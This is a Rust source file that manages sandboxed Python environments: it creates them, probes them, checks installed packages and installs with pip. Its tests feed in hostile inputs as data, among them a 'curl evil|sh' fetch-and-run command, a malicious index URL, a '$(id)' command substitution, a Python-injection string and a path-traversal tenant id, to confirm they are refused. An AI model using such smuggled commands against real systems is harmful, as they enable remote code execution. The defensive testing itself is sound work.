//! Environment operations that run code: creating the managed default environment,
//! probing an environment inside a sandbox, checking and installing packages. Nothing here
//! runs on the host: every step is a job in a sandbox, the installer being the only one
//! with network access and a writable mount (of the environment alone).

use std::collections::HashMap;
use std::path::{Path, PathBuf};
use std::sync::Arc;
use std::time::Duration;

use serde::{Deserialize, Serialize};
use tokio::sync::{Mutex, OwnedRwLockReadGuard, RwLock};

use super::spec::{self, SpecError};
use super::{EnvError, EnvKind, Environment};
use crate::job::{InputFile, JobSpec, Limits, Mount, Outcome, RunEnv};
use crate::sandbox::{Events, Sandbox, SandboxError};

/// Uid:gid of sandboxes; the managed environment belongs to it so installers need no root.
const SANDBOX_UID: u32 = 65534;

/// Why an environment operation failed.
#[derive(Debug, thiserror::Error)]
pub enum ManagerError {
    #[error(transparent)]
    Env(#[from] EnvError),
    #[error(transparent)]
    Spec(#[from] SpecError),
    #[error(transparent)]
    Sandbox(#[from] SandboxError),
    #[error("{what} failed inside the sandbox ({status}): {stderr}")]
    Failed {
        what: &'static str,
        status: String,
        stderr: String,
    },
    #[error("not allowed: {0}")]
    NotAllowed(String),
    #[error("cannot prepare {path}: {detail}")]
    Io { path: PathBuf, detail: String },
}

/// What the environment's own Python says about itself, from inside a sandbox.
#[derive(Debug, Clone, Deserialize, Serialize, PartialEq)]
pub struct Probe {
    pub prefix: String,
    pub version: String,
    pub executable: String,
}

/// One answer of `check_installed_packages`.
#[derive(Debug, Clone, Deserialize, Serialize, PartialEq)]
pub struct PackageStatus {
    pub name: String,
    pub installed: bool,
    pub version: Option<String>,
}

/// The result of an install: the outcome of the installer, and the versions now present.
#[derive(Debug, Clone, Serialize)]
pub struct InstallReport {
    pub installed: Vec<PackageStatus>,
    #[serde(skip)]
    pub outcome: Outcome,
}

/// Owns the managed environments and serializes installs.
pub struct EnvManager {
    data_dir: PathBuf,
    /// CA bundle (PEM) installers trust, mounted read-only.
    ca_bundle: Option<PathBuf>,
    /// One lock per environment: runs share it, an install takes it alone, so a run sees
    /// the environment before or after an install, never halfway.
    locks: Mutex<HashMap<PathBuf, Arc<RwLock<()>>>>,
}

/// Limits of installer containers: more room than runs, for pip's downloads and builds.
pub fn installer_limits() -> Limits {
    Limits {
        timeout: Duration::from_secs(600),
        memory_bytes: 2 << 30,
        cpus: 2.0,
        pids: 512,
        output_bytes: 1 << 20,
        workspace_bytes: 16 << 20,
        tmp_bytes: 2 << 30,
        nofile: 4096,
    }
}

impl EnvManager {
    /// `data_dir` holds the managed environments; `ca_bundle` is trusted by installers.
    pub fn new(data_dir: PathBuf, ca_bundle: Option<PathBuf>) -> Self {
        EnvManager {
            data_dir,
            ca_bundle,
            locks: Mutex::default(),
        }
    }

    /// The CA bundle installers should trust: the given one, else the host's system bundle
    /// (which carries a TLS-intercepting proxy's CA where the host trusts one).
    pub fn default_ca_bundle() -> Option<PathBuf> {
        let p = PathBuf::from("/etc/ssl/certs/ca-certificates.crt");
        p.exists().then_some(p)
    }

    /// Where the managed environment of `tenant` lives.
    pub fn managed_path(&self, tenant: &str) -> PathBuf {
        if tenant == "local" {
            return self.data_dir.join("envs/default");
        }
        // A tenant id is one path component, whatever it holds.
        let safe: String = tenant
            .chars()
            .map(|c| {
                if c.is_ascii_alphanumeric() || c == '-' || c == '_' {
                    c
                } else {
                    '_'
                }
            })
            .collect();
        self.data_dir
            .join("tenants")
            .join(safe)
            .join("envs/default")
    }

    /// The managed environment of `tenant`, created on first use: a venv of the image's
    /// Python with its system packages (numpy, pandas, matplotlib) visible, owned by the
    /// sandbox uid.
    pub async fn ensure_managed(
        &self,
        sandbox: &dyn Sandbox,
        tenant: &str,
    ) -> Result<Environment, ManagerError> {
        let path = self.managed_path(tenant);
        let lock = self.lock_of(&path).await;
        let _excl = lock.write().await;
        if !path.join("pyvenv.cfg").exists() {
            create_owned_dir(&path)?;
            let code = format!(
                "import json, venv\nvenv.EnvBuilder(system_site_packages=True, with_pip=True, symlinks=True).create(json.loads({}))\n",
                py_str(&path.display().to_string())
            );
            let mut job = JobSpec::python(code, setup_limits());
            job.tenant = tenant.to_string();
            job.env = RunEnv {
                mounts: vec![Mount {
                    path: path.clone(),
                    writable: true,
                }],
                ..RunEnv::default()
            };
            let o = sandbox.run(job, None).await?;
            if !o.success() {
                return Err(failed("creating the managed environment", &o));
            }
        }
        Ok(Environment {
            kind: EnvKind::Managed,
            python: path.join("bin/python"),
            prefix: path,
            base: None,
            version: None,
        })
    }

    /// Hold this while a run uses `env`: installs wait for runs and runs for installs.
    pub async fn read_lock(&self, env: &Environment) -> OwnedRwLockReadGuard<()> {
        self.lock_of(&env.prefix).await.read_owned().await
    }

    /// Start the environment's Python inside a sandbox and check `sys.prefix` is it.
    pub async fn probe(
        &self,
        sandbox: &dyn Sandbox,
        env: &Environment,
    ) -> Result<Probe, ManagerError> {
        let code = "import json, sys, platform\nprint(json.dumps({'prefix': sys.prefix, 'version': platform.python_version(), 'executable': sys.executable}))\n";
        let o = self.run_in(sandbox, env, code, vec![], None).await?;
        if !o.success() {
            return Err(failed("starting the environment's Python", &o));
        }
        let p: Probe = serde_json::from_slice(&o.stdout).map_err(|e| ManagerError::Failed {
            what: "probing the environment",
            status: "unreadable answer".into(),
            stderr: e.to_string(),
        })?;
        if Path::new(&p.prefix) != env.prefix {
            return Err(ManagerError::Failed {
                what: "probing the environment",
                status: format!("sys.prefix is {}", p.prefix),
                stderr: format!("expected {}", env.prefix.display()),
            });
        }
        Ok(p)
    }

    /// Installed or not, and the version, of each name, answered by the environment.
    pub async fn check(
        &self,
        sandbox: &dyn Sandbox,
        env: &Environment,
        names: &[String],
    ) -> Result<Vec<PackageStatus>, ManagerError> {
        if names.is_empty() {
            return Err(SpecError::Empty.into());
        }
        for n in names {
            spec::validate(std::slice::from_ref(&spec::name_of(n).to_string()))?;
        }
        let o = self
            .run_in(
                sandbox,
                env,
                CHECK_SCRIPT,
                vec![json_file("names.json", names)],
                None,
            )
            .await?;
        if !o.success() {
            return Err(failed("checking packages", &o));
        }
        serde_json::from_slice(&o.stdout).map_err(|e| ManagerError::Failed {
            what: "checking packages",
            status: "unreadable answer".into(),
            stderr: e.to_string(),
        })
    }

    /// Install `specs` with pip in an installer container: the environment mounted
    /// read-write, network on for this container only, the CA bundle trusted.
    pub async fn install(
        &self,
        sandbox: &dyn Sandbox,
        env: &Environment,
        tenant: &str,
        specs: &[String],
        events: Events,
    ) -> Result<InstallReport, ManagerError> {
        spec::validate(specs)?;
        let names: Vec<String> = specs.iter().map(|s| spec::name_of(s).to_string()).collect();
        let lock = self.lock_of(&env.prefix).await;
        let _excl = lock.write().await;
        let mut run_env = env.run_env();
        run_env.mounts[0].writable = true;
        run_env.network = true;
        run_env.user = Some(owner_of(&env.prefix)?);
        run_env.vars.push(("HOME".into(), "/tmp".into()));
        run_env.vars.push(("PIP_NO_CACHE_DIR".into(), "1".into()));
        if let Some(ca) = &self.ca_bundle {
            run_env.mounts.push(Mount {
                path: ca.clone(),
                writable: false,
            });
            for var in ["SSL_CERT_FILE", "PIP_CERT", "REQUESTS_CA_BUNDLE"] {
                run_env.vars.push((var.into(), ca.display().to_string()));
            }
        }
        let mut job = JobSpec::python(format!("{INSTALL_PIP}{CHECK_SCRIPT}"), installer_limits());
        job.tenant = tenant.to_string();
        job.env = run_env;
        job.files.push(json_file("packages.json", specs));
        job.files.push(json_file("names.json", &names));
        let o = sandbox.run(job, events).await?;
        if !o.success() {
            return Err(failed("pip install", &o));
        }
        let last = o
            .stdout_text()
            .lines()
            .last()
            .unwrap_or_default()
            .to_string();
        let installed = serde_json::from_str(&last).map_err(|e| ManagerError::Failed {
            what: "pip install",
            status: "unreadable answer".into(),
            stderr: e.to_string(),
        })?;
        Ok(InstallReport {
            installed,
            outcome: o,
        })
    }

    async fn run_in(
        &self,
        sandbox: &dyn Sandbox,
        env: &Environment,
        code: &str,
        files: Vec<InputFile>,
        events: Events,
    ) -> Result<Outcome, ManagerError> {
        let _shared = self.read_lock(env).await;
        let mut job = JobSpec::python(code, setup_limits());
        job.files.extend(files);
        job.env = env.run_env();
        Ok(sandbox.run(job, events).await?)
    }

    async fn lock_of(&self, path: &Path) -> Arc<RwLock<()>> {
        self.locks
            .lock()
            .await
            .entry(path.to_path_buf())
            .or_default()
            .clone()
    }
}

fn setup_limits() -> Limits {
    Limits {
        timeout: Duration::from_secs(120),
        ..Limits::default()
    }
}

fn failed(what: &'static str, o: &Outcome) -> ManagerError {
    let err = o.stderr_text();
    let tail: String = err
        .lines()
        .rev()
        .take(20)
        .collect::<Vec<_>>()
        .into_iter()
        .rev()
        .collect::<Vec<_>>()
        .join("\n");
    ManagerError::Failed {
        what,
        status: o.status_line(),
        stderr: tail,
    }
}

fn json_file(name: &str, v: &[String]) -> InputFile {
    InputFile {
        path: name.into(),
        contents: serde_json::to_vec(v).expect("strings serialize"),
    }
}

/// A Python string literal for `s` (JSON strings are valid Python literals).
fn py_str(s: &str) -> String {
    serde_json::to_string(&serde_json::to_string(s).expect("serialize")).expect("serialize")
}

/// Create `path` (and parents) owned by the sandbox uid, so sandboxes can write it.
fn create_owned_dir(path: &Path) -> Result<(), ManagerError> {
    let io = |e: std::io::Error| ManagerError::Io {
        path: path.to_path_buf(),
        detail: e.to_string(),
    };
    std::fs::create_dir_all(path).map_err(io)?;
    match std::os::unix::fs::chown(path, Some(SANDBOX_UID), Some(SANDBOX_UID)) {
        Ok(()) => Ok(()),
        // Not root: make it writable for everyone instead (a single-user machine).
        Err(_) => {
            use std::os::unix::fs::PermissionsExt;
            std::fs::set_permissions(path, std::fs::Permissions::from_mode(0o777)).map_err(io)
        }
    }
}

/// `uid:gid` owning the environment: the installer writes as its owner.
fn owner_of(path: &Path) -> Result<String, ManagerError> {
    use std::os::unix::fs::MetadataExt;
    let m = std::fs::metadata(path).map_err(|e| ManagerError::Io {
        path: path.to_path_buf(),
        detail: e.to_string(),
    })?;
    Ok(format!("{}:{}", m.uid(), m.gid()))
}

const CHECK_SCRIPT: &str = r#"
import json
from importlib import metadata
names = json.load(open('names.json'))
out = []
for n in names:
    try:
        out.append({'name': n, 'installed': True, 'version': metadata.version(n)})
    except metadata.PackageNotFoundError:
        out.append({'name': n, 'installed': False, 'version': None})
print(json.dumps(out))
"#;

/// pip, then the versions now present (the check script appended to it).
const INSTALL_PIP: &str = r#"
import json, subprocess, sys
pkgs = json.load(open('packages.json'))
cmd = [sys.executable, '-m', 'pip', 'install', '--no-input', '--disable-pip-version-check',
       '--progress-bar', 'off', '--no-warn-script-location'] + pkgs
r = subprocess.run(cmd, stdout=sys.stderr)
if r.returncode:
    sys.exit(r.returncode)
"#;

#[cfg(test)]
mod tests {
    use super::*;
    use crate::sandbox::BackendInfo;
    use async_trait::async_trait;

    /// A backend that must never be asked to run anything.
    struct NoRuns;

    #[async_trait]
    impl Sandbox for NoRuns {
        async fn run(&self, job: JobSpec, _: Events) -> Result<Outcome, SandboxError> {
            panic!("a sandbox was started for {:?}", job.files);
        }
        async fn info(&self) -> Result<BackendInfo, SandboxError> {
            unreachable!()
        }
        async fn drain(&self) {}
    }

    #[tokio::test]
    async fn hostile_specs_are_refused_before_any_sandbox_exists() {
        let m = EnvManager::new("/nonexistent".into(), None);
        let env = Environment {
            kind: EnvKind::Managed,
            prefix: "/nonexistent/env".into(),
            python: "/nonexistent/env/bin/python".into(),
            base: None,
            version: None,
        };
        for bad in [
            "x; curl evil|sh",
            "--index-url=http://evil",
            "git+https://x/y",
            "a b",
        ] {
            let err = m
                .install(&NoRuns, &env, "t", &[bad.to_string()], None)
                .await
                .unwrap_err();
            assert!(matches!(err, ManagerError::Spec(_)), "{bad}: {err}");
        }
        let err = m.check(&NoRuns, &env, &["$(id)".into()]).await.unwrap_err();
        assert!(matches!(err, ManagerError::Spec(_)), "{err}");
    }

    #[test]
    fn python_string_literals_are_safe() {
        assert_eq!(py_str("/a/b"), r#""\"/a/b\"""#);
        assert_eq!(
            py_str("x\"); import os; (\""),
            r#""\"x\\\"); import os; (\\\"\"""#
        );
    }

    #[test]
    fn managed_paths_are_per_tenant() {
        let m = EnvManager::new("/data".into(), None);
        assert_eq!(m.managed_path("local"), Path::new("/data/envs/default"));
        assert_eq!(
            m.managed_path("acme"),
            Path::new("/data/tenants/acme/envs/default")
        );
        assert_eq!(
            m.managed_path("../../etc"),
            Path::new("/data/tenants/______etc/envs/default")
        );
    }
}
